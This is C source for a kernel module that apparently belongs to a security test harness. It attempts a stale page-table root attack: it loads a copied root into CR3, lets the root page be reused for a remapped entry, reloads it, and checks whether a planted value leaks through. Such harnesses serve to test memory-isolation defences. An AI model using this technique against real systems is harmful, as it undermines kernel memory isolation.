/* SPDX-License-Identifier: MIT OR GPL-2.0-only */
/*
 * Loads a root that was in order, until the CPU may know it; lets it be over, and uses its page for
 * other entries; then loads it once more.
 */
#include "attack.h"
#include "remap.h"

#define LOADS 4

static bool stored, again;
static u64 seen;

static bool load(const u64 *root, const unsigned long *word)
{
	const unsigned long cr3 = attack_read_cr3();
	unsigned long flags;
	unsigned int fault = 1;

	local_irq_save(flags);
	asm volatile(ATTACK_TRY("mov %[value], %%cr3")
		     : [fault] "+r"(fault)
		     : [value] "r"(virt_to_phys((void *)root))
		     : "memory");
	if (!fault) {
		seen = READ_ONCE(*word);
		attack_write_cr3(cr3);
	}
	local_irq_restore(flags);
	return !fault;
}

static int attempt(void)
{
	unsigned long *word = (unsigned long *)attack_area();
	u64 *root = attack_page(0), *table = attack_page(0), *page = attack_page(0);
	unsigned int at = attack_index((unsigned long)word, ATTACK_LEVELS);
	u64 entry;

	if (!word || !root || !table || !page)
		return -ENOMEM;
	table[0] = virt_to_phys(page) | ATTACK_DATA;
	if (!attack_link(table))
		return -EINVAL;
	memcpy(root, __va(attack_read_cr3() & PTE_PFN_MASK), PAGE_SIZE);
	entry = remap_below(root[at], word, ATTACK_LEVELS, false);
	for (unsigned int i = 0; i < LOADS; i++)
		if (!load(root, word))
			return -EINVAL;
	/* As Linux leaves a root: the lower half empty. Then the page is anybody's. */
	for (unsigned int i = 0; i < ATTACK_ENTRIES / 2; i++)
		(void)attack_store(&root[i], 0);
	stored = attack_store(&root[at], entry);
	again = load(root, word);
	attack_forget_root(root);
	attack_link(NULL);
	return 0;
}

static bool effect(void)
{
	attack_detail("entry %s, root %s, word 0x%llx", stored ? "stored" : "refused",
		      again ? "loaded" : "refused", seen);
	return seen == REMAP_PLANTED;
}

static const struct attack pt_stale_root = {
	"pt_stale_root", "kernel-template,root", NULL, attempt, effect, NULL};
ATTACK_MODULE(pt_stale_root);
